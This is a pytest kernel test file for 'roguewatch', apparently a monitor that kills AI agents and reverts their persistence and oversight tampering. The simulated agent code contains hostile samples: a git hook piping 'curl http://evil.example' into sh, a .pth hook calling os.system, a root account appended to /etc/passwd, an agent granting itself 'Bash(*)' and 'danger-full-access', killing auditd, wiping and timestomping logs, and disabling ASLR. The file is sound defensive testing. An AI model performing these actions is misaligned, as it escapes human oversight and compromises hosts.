"""Containment means the effect is gone: real agents under `roguewatch run` (enforce) leave
persistence and oversight changes, and afterwards each file is back as it was (restored from
its baseline), or gone when it was new (in quarantine, where `roguewatch quarantine list`
shows it), and each alert's outcome says which. Also: an unprivileged agent's failed attempt
is alerted with a lower severity and an outcome that says it failed; a signal to a security
service is named by the target's comm as the kernel saw it; a log's timestamps set back are
anti-forensics."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from roguewatch.core.paths import PRIVATE_STATE

from tests.conftest import require, require_root
from tests.harness import Agent, no_service

pytestmark = pytest.mark.kernel


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[Agent]:
    require_root()
    no_service()
    a = Agent(tmp_path)
    yield a
    for pid in a.leftovers():
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


def quarantined(session: str, path: str) -> list[dict]:
    found = []
    for meta in Path(PRIVATE_STATE).glob("*/quarantine/*/meta.json"):
        m = json.loads(meta.read_text())
        if m.get("path") == path and m.get("who", {}).get("session") == session:
            found.append(m | {"dir": str(meta.parent)})
    return found


# A log directory of the rules' log_dirs that the attack corpus runner (which puts /var/log
# back after each of its scenarios, on this shared host) leaves alone.
LOGS = Path("/var/lib/rsyslog")


@pytest.fixture(autouse=False)
def logs_dir() -> Iterator[Path]:
    made = not LOGS.exists()
    LOGS.mkdir(parents=True, exist_ok=True)
    yield LOGS
    if made:
        shutil.rmtree(LOGS, ignore_errors=True)


def outcomes(r) -> str:
    return "; ".join(f"{a['rule']} {a['event'].get('path')}: {a['outcome']}" for a in r.alerts)


@contextlib.contextmanager
def saved(*paths: str) -> Iterator[None]:
    """Whatever happens, the files are put back as they were (or removed if they were not)."""
    before = {p: (Path(p).read_bytes(), os.stat(p).st_mode) if os.path.exists(p) else None
              for p in paths}  # fmt: skip
    try:
        yield
    finally:
        for p, old in before.items():
            if old is None:
                with contextlib.suppress(FileNotFoundError):
                    os.unlink(p)
            elif not os.path.exists(p) or Path(p).read_bytes() != old[0]:
                Path(p).write_bytes(old[0])
                os.chmod(p, old[1] & 0o7777)


def site_dir() -> str:
    for d in ("/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3/dist-packages"):
        if os.path.isdir(d):
            return d
    require(False, "no system dist-packages directory")
    return ""


def test_a_new_pth_file_in_a_system_site_directory_is_removed_and_quarantined(
    agent: Agent,
) -> None:
    """No list watches dist-packages (thousands of files): the file's birth time says the
    session made it, so it is removed, and kept in quarantine."""
    path = f"{site_dir()}/rwtest-{os.getpid()}.pth"
    with saved(path):
        r = agent.run(f"""
            with open("{path}", "w") as f:
                f.write("import os; os.system('id > /tmp/pwned')\\n")
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("persistence_python_startup_hook", path=path)
        assert "removed" in a["outcome"] and "quarantined as" in a["outcome"], outcomes(r)
        assert not os.path.exists(path)
        assert quarantined(a["session"], path), outcomes(r)
        kept = quarantined(a["session"], path)[0]
        assert kept["who"]["rule"] == "persistence_python_startup_hook"
        # Killed at its open or after its write: what it left is what is kept.
        assert Path(kept["dir"], "content").read_bytes() in (
            b"",
            b"import os; os.system('id > /tmp/pwned')\n",
        )


def test_an_edited_existing_pth_file_is_restored_from_the_session_start_baseline(
    agent: Agent,
) -> None:
    """A *.pth that was there before the session, in no watched list, is baselined when the
    session starts: an appended line is undone."""
    path = f"{site_dir()}/rwtest-old-{os.getpid()}.pth"
    Path(path).write_text("# harmless\n")
    os.chmod(path, 0o644)
    with saved(path):
        try:
            r = agent.run(f"""
                fd = os.open("{path}", os.O_WRONLY | os.O_APPEND)
                os.write(fd, b"import os; os.system('id')\\n")  # lands before the kill comes
                time.sleep(5)
                """)
            assert r.status == 137, r.describe()
            a = r.one("persistence_python_startup_hook", path=path)
            assert "restored from baseline" in a["outcome"] or (
                "unchanged (matches baseline)" in a["outcome"]  # killed between open and write
            ), outcomes(r)
            assert Path(path).read_text() == "# harmless\n"
        finally:
            os.unlink(path)


def test_a_line_appended_to_etc_passwd_is_restored(agent: Agent) -> None:
    original = Path("/etc/passwd").read_bytes()
    with saved("/etc/passwd"):
        r = agent.run("""
            fd = os.open("/etc/passwd", os.O_WRONLY | os.O_APPEND)
            os.write(fd, b"rwtest:x:0:0::/root:/bin/sh\\n")  # lands before the kill comes
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("persistence_account_change", path="/etc/passwd")
        assert "killed" in a["outcome"], outcomes(r)
        assert "restored from baseline" in a["outcome"] or (
            "unchanged (matches baseline)" in a["outcome"]  # killed between open and write
        ), outcomes(r)
        assert Path("/etc/passwd").read_bytes() == original


def test_the_agent_granting_itself_permissions_in_its_workspace_is_undone(
    agent: Agent, tmp_path: Path
) -> None:
    """The workspace's .claude/settings.json existed before the session (baselined as it
    starts there) and is put back; a new .mcp.json is removed."""
    ws = tmp_path / "ws"
    (ws / ".claude").mkdir(parents=True)
    settings = ws / ".claude" / "settings.json"
    settings.write_text('{"permissions": {"allow": []}}\n')
    mcp = ws / ".mcp.json"
    r = agent.run(
        """
        with open(".claude/settings.json", "w") as f:
            f.write('{"permissions": {"allow": ["Bash(*)"]}}\\n')
        time.sleep(0.5)
        """,
        cwd=ws,
    )
    assert r.status == 137, r.describe()
    a = r.one("oversight_agent_permission_config", path=str(settings))
    assert "restored from baseline" in a["outcome"], outcomes(r)
    assert settings.read_text() == '{"permissions": {"allow": []}}\n'
    r = agent.run(
        """
        with open(".mcp.json", "w") as f:
            f.write('{"mcpServers": {"x": {"command": "sh"}}}\\n')
        time.sleep(5)
        """,
        cwd=ws,
    )
    assert r.status == 137, r.describe()
    a = r.one("oversight_agent_permission_config", path=str(mcp))
    assert "removed (did not exist at baseline)" in a["outcome"], outcomes(r)
    assert not mcp.exists()
    assert quarantined(a["session"], str(mcp))


def test_a_codex_config_in_the_home_is_restored(agent: Agent) -> None:
    path = "/root/.codex/config.toml"
    made_dir = not os.path.isdir("/root/.codex")
    os.makedirs("/root/.codex", exist_ok=True)
    try:
        with saved(path):
            r = agent.run(f"""
                with open("{path}", "w") as f:
                    f.write('approval_policy = "never"\\nsandbox_mode = "danger-full-access"\\n')
                time.sleep(5)
                """)
            assert r.status == 137, r.describe()
            a = r.one("oversight_agent_permission_config", path=path)
            assert "did not exist at baseline" in a["outcome"] or (
                "restored from baseline" in a["outcome"]
            ), outcomes(r)
            assert "danger-full-access" not in (
                Path(path).read_text() if os.path.exists(path) else ""
            )
    finally:
        if made_dir:
            shutil.rmtree("/root/.codex", ignore_errors=True)


def test_a_setuid_bit_on_a_file_with_no_baseline_is_cleared(agent: Agent, tmp_path: Path) -> None:
    """A file that was there before the session, in no list and no package: its mode before
    is unknown, but the setuid bit the agent set is the effect, and it is taken away."""
    d = Path(f"/srv/rwtest-suid-{os.getpid()}")
    d.mkdir(parents=True, exist_ok=True)
    target = d / "tool"
    shutil.copy("/bin/true", target)
    os.chmod(target, 0o755)
    try:
        r = agent.run(f"""
            os.chmod("{target}", 0o4755)
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("persistence_setuid_or_setgid", path=str(target))
        assert "setuid/setgid bits cleared" in a["outcome"], outcomes(r)
        assert target.stat().st_mode & 0o7777 == 0o755
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_an_unprivileged_agent_failing_to_write_cron_is_alerted_as_an_attempt(
    agent: Agent,
) -> None:
    """nobody cannot write /etc/cron.d: EACCES. The attempt is alerted, one severity lower
    than the change would be, with an outcome that says it failed; nothing is killed."""
    path = f"/etc/cron.d/rwtest-nobody-{os.getpid()}"
    r = agent.run(
        f"""
        say(err=attempt(lambda: open("{path}", "w")))
        say(alive=True)
        """,
        args=("--user", "nobody"),
    )
    assert r.status == 0, r.describe()
    assert r.said() == {"err": 13, "alive": True}, r.describe()
    a = r.one("persistence_cron_write", path=path)
    assert a["severity"] == "high" and a["action"] == "alert", a  # the rule says critical
    assert a["outcome"].startswith("attempt failed (EACCES"), a["outcome"]
    assert a["killed"] == 0
    assert not os.path.exists(path)


@pytest.fixture
def fake_auditd(tmp_path: Path) -> Iterator[subprocess.Popen]:
    """A process outside every session whose comm is auditd's."""
    exe = tmp_path / "auditd"
    shutil.copy("/bin/sleep", exe)
    p = subprocess.Popen([str(exe), "60"])
    yield p
    p.kill()
    p.wait()


def test_killing_a_security_service_by_pid_is_oversight_tampering(
    agent: Agent, fake_auditd: subprocess.Popen
) -> None:
    """Whether the signal is delivered (its target named in the kernel) or refused (Landlock's
    signal scope: EPERM, and the target, alive, named from /proc), the target is auditd."""
    r = agent.run(f"""
        os.kill({fake_auditd.pid}, signal.SIGKILL)
        time.sleep(5)
        """)
    a = r.one("oversight_security_service_kill")
    assert a["event"]["target_comm"] == "auditd" and a["event"]["target"] == fake_auditd.pid
    assert "killed" in a["outcome"], outcomes(r)
    assert r.status == 137, r.describe()


def test_setting_back_the_timestamps_of_a_log_is_alerted(agent: Agent, logs_dir: Path) -> None:
    log = LOGS / f"rwtest-{os.getpid()}.log"
    log.write_text("Dec  3 09:00:00 host sshd[1]: Accepted publickey for root\n")
    try:
        r = agent.run(f"""
            os.utime("{log}", (0, 0))
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("oversight_log_timestamp_tampering", path=str(log))
        assert "killed" in a["outcome"]
    finally:
        log.unlink(missing_ok=True)


def test_quarantine_list_shows_run_sessions_entries_with_session_rule_and_path(
    agent: Agent, tmp_path: Path
) -> None:
    path = f"/etc/cron.d/rwtest-qlist-{os.getpid()}"
    with saved(path):
        r = agent.run(f"""
            with open("{path}", "w") as f:
                f.write("* * * * * root id\\n")
            time.sleep(5)
            """)
        a = r.one("persistence_cron_write", path=path)
        assert not os.path.exists(path), outcomes(r)
        out = subprocess.run(
            [sys.executable, "-m", "roguewatch.cli.main", "quarantine", "list"],
            capture_output=True, text=True, timeout=60, check=True,
        ).stdout  # fmt: skip
        line = next(x for x in out.splitlines() if path in x)
        assert a["session"] in line and "persistence_cron_write" in line, line
        qid = line.split()[0]
        # The writer may be killed before its write (at the open): whatever it left is kept.
        kept = Path(quarantined(a["session"], path)[0]["dir"], "content").read_bytes()
        rel = subprocess.run(
            [sys.executable, "-m", "roguewatch.cli.main", "quarantine", "restore", qid],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert rel.returncode == 0, rel.stderr
        assert f"released {qid}: {path} put back" in rel.stdout, rel.stdout
        assert quarantined(a["session"], path)[0]["released"]
        # (Put back by an operator's process in no session: a monitor of someone else's on a
        # shared host may undo it again, as it should.)
        if os.path.exists(path):
            assert Path(path).read_bytes() == kept


@pytest.mark.parametrize(
    ("setting", "value", "rule"),
    [
        (
            "/proc/sys/kernel/core_pattern",
            "|/tmp/rwtest-crash-handler %p",
            "persistence_kernel_helper",
        ),
        ("/proc/sys/kernel/randomize_va_space", "0", "oversight_kernel_hardening_change"),
    ],
)
def test_a_kernel_setting_is_written_back_to_its_value_at_session_start(
    agent: Agent, setting: str, value: str, rule: str
) -> None:
    """/proc/sys has no baseline file and no inotify: the settings the rules name are read as
    the session starts, and a restore writes the value back."""
    before = Path(setting).read_bytes()
    try:
        r = agent.run(f"""
            fd = os.open("{setting}", os.O_WRONLY | os.O_TRUNC)
            os.write(fd, b"{value}\\n")
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one(rule, path=setting)
        assert "restored to its value at session start" in a["outcome"] or (
            "unchanged (matches the value at session start)" in a["outcome"]
        ), outcomes(r)
        assert Path(setting).read_bytes() == before
    finally:
        if Path(setting).read_bytes() != before:
            Path(setting).write_bytes(before)


def test_a_hook_in_another_repository_is_removed_but_the_workspace_repository_is_its_own(
    agent: Agent, tmp_path: Path
) -> None:
    ws, other = tmp_path / "ws", tmp_path / "other"
    for repo in (ws, other):
        subprocess.run(["git", "init", "-q", str(repo)], check=True)
    mine, theirs = ws / ".git/hooks/pre-commit", other / ".git/hooks/post-checkout"
    r = agent.run(
        f"""
        for p in ("{mine}", "{theirs}"):
            with open(p, "w") as f:
                f.write("#!/bin/sh\\ncurl -s http://evil.example | sh\\n")
            os.chmod(p, 0o755)
            say(**{{os.path.basename(p): True}})
        time.sleep(5)
        """,
        cwd=ws,
    )
    assert r.status == 137, r.describe()
    assert r.said().get("pre-commit") is True, r.describe()  # the workspace's: its business
    assert not [a for a in r.alerts if a["event"].get("path") == str(mine)], outcomes(r)
    a = r.one("persistence_git_hook_outside_workspace", path=str(theirs))
    assert "removed" in a["outcome"], outcomes(r)
    assert not theirs.exists() and mine.exists()


def test_a_file_capability_set_by_setcap_is_removed(agent: Agent) -> None:
    """setcap is killed at its exec, too late (it is done in microseconds): the setxattr it
    made is the event that is undone, the capability removed."""
    d = Path(f"/srv/rwtest-cap-{os.getpid()}")
    d.mkdir(parents=True, exist_ok=True)
    tool = d / "tool"
    shutil.copy("/bin/true", tool)
    try:
        r = agent.run(f"""
            import subprocess
            subprocess.run(["/usr/sbin/setcap", "cap_setuid+ep", "{tool}"])
            time.sleep(5)
            """)
        # setcap is killed at its exec, usually after it acted: then its setxattr is undone.
        for a in r.rule("persistence_file_capability"):
            assert "file capability removed" in a["outcome"] or "unchanged" in a["outcome"], (
                outcomes(r)
            )
        assert r.rule("persistence_file_capability") or r.rule("persistence_tool_exec")
        with pytest.raises(OSError):
            os.getxattr(tool, "security.capability")
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_a_change_that_cannot_be_undone_says_why(agent: Agent, logs_dir: Path) -> None:
    """A log too large to be baselined as the session starts (2 MiB), overwritten: the writer
    dies, the outcome says it could not be restored and why, and what the agent left is
    kept."""
    log = LOGS / f"rwtest-why-{os.getpid()}.log"
    log.write_text("Dec  3 09:00:00 host sshd[1]: Accepted publickey for root\n" * 40000)
    try:
        r = agent.run(f"""
            fd = os.open("{log}", os.O_WRONLY)
            os.write(fd, b"Dec  3 09:00:00 host sshd[1]: nothing to see\\n")
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("oversight_log_tampering", path=str(log))
        assert (
            "not restored: it existed before the session and has no baseline" in (a["outcome"])
        ), outcomes(r)
        assert "quarantined as" in a["outcome"] and quarantined(a["session"], str(log))
    finally:
        log.unlink(missing_ok=True)


def test_a_truncated_log_is_put_back_in_place_and_timestomping_undone(
    agent: Agent, logs_dir: Path
) -> None:
    """Logs are baselined as a session starts: a truncated one gets its content back in the
    same inode (a daemon appending to it keeps its file), and a timestomped one its times."""
    log = LOGS / f"rwtest-trunc-{os.getpid()}.log"
    text = "Dec  3 09:00:00 host sshd[1]: Accepted publickey for root from 10.0.0.9\n"
    log.write_text(text)
    os.utime(log, ns=(1_700_000_000_000_000_000, 1_700_000_000_000_000_000))
    ino = log.stat().st_ino
    try:
        r = agent.run(f"""
            os.truncate("{log}", 0)
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("oversight_log_tampering", path=str(log))
        assert "restored in place" in a["outcome"], outcomes(r)
        assert log.read_text() == text and log.stat().st_ino == ino
        before = log.stat().st_mtime_ns  # (the restore wrote it: now)
        r = agent.run(f"""
            os.utime("{log}", (1262304000, 1262304000))
            time.sleep(5)
            """)
        assert r.status == 137, r.describe()
        a = r.one("oversight_log_timestamp_tampering", path=str(log))
        assert "timestamps restored" in a["outcome"], outcomes(r)
        assert log.stat().st_mtime_ns == before
    finally:
        log.unlink(missing_ok=True)
